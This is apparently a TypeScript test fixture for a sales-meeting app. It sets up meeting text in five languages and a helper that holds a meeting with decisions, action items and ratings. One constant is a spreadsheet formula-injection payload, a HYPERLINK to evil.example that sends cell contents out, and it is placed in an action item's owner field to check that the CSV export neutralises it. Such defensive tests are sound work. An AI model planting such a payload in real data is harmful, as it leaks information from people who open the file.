import type { Locale } from '../../../src/shared/domain/types';
import { endMeeting, goToStep, planMeeting, startMeeting } from '../../../src/main/meetings/lifecycle';
import { addActionItem, addDecision, rateMeeting, reviewRevision } from '../../../src/main/meetings/records';
import { A_START, ATTENDEES, type Fixture } from './fixture';

const MIN = 60_000;

/** What the held meeting records, in the meeting's language, for the minutes tests to look for. */
export const WORDS: Record<Locale, { decision: string; item: string; title: string }> = {
  en: {
    decision: 'Bob reviews his untouched MQLs every morning.',
    item: 'Call every untouched MQL; report back, with numbers',
    title: 'Weekly review W09',
  },
  'pt-BR': {
    decision: 'Bob revisa todo dia os MQLs sem contato.',
    item: 'Ligar para cada MQL sem contato; relatar, com números',
    title: 'Revisão semanal S09',
  },
  es: {
    decision: 'Bob revisa cada mañana sus MQL sin contactar.',
    item: 'Llamar a cada MQL sin contactar; informar, con cifras',
    title: 'Revisión semanal S09',
  },
  ru: {
    decision: 'Боб каждое утро разбирает необработанные MQL.',
    item: 'Обзвонить все необработанные MQL; отчитаться, с цифрами',
    title: 'Еженедельный разбор, неделя 9',
  },
  'zh-CN': {
    decision: '鲍勃每天早上检查未跟进的 MQL。',
    item: '逐一致电未跟进的 MQL；汇报，并附数字',
    title: '第 9 周周例会',
  },
};

/** An owner a spreadsheet would run as a formula if the CSV did not neutralise it. */
export const MALICIOUS_OWNER = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click")';

/**
 * Meeting A (W09) held and ended: steps 0, 1, 2 and 4 reached (win/loss, actions and wrap-up not),
 * one decision linked to a figure, two action items (one owned by a formula), two ratings and a
 * deferred revision. Returns its id.
 */
export function holdMeeting(fx: Fixture, locale: Locale): number {
  const w = WORDS[locale];
  const m = planMeeting(fx.ws, { week: '2026-W09', title: w.title, attendees: [...ATTENDEES] }, A_START - 60 * MIN);
  startMeeting(fx.ws, m.id, A_START);
  goToStep(fx.ws, m.id, 1, A_START + 5 * MIN);
  goToStep(fx.ws, m.id, 2, A_START + 20 * MIN);
  goToStep(fx.ws, m.id, 4, A_START + 35 * MIN);
  addDecision(
    fx.ws,
    {
      id: m.id,
      text: w.decision,
      link: { type: 'figure', figure: { type: 'followup', side: 'breached', owner: 'Bob' } },
    },
    A_START + 36 * MIN,
  );
  addActionItem(
    fx.ws,
    {
      id: m.id,
      text: w.item,
      owner: 'Sergio Ruiz',
      dueDate: '2026-03-06',
      link: { type: 'lead', leadId: fx.leads.get('A2')! },
    },
    A_START + 37 * MIN,
  );
  addActionItem(
    fx.ws,
    { id: m.id, text: 'Export the breach list', owner: MALICIOUS_OWNER, dueDate: '2026-03-09', link: null },
    A_START + 38 * MIN,
  );
  reviewRevision(fx.ws, { id: m.id, revisionId: fx.proposalId, outcome: 'defer', note: '' }, A_START + 40 * MIN);
  rateMeeting(fx.ws, { id: m.id, attendee: 'Marta Gómez', rating: 8 }, A_START + 50 * MIN);
  rateMeeting(fx.ws, { id: m.id, attendee: 'Sergio Ruiz', rating: 7 }, A_START + 51 * MIN);
  endMeeting(fx.ws, m.id, A_START + 58 * MIN);
  return m.id;
}
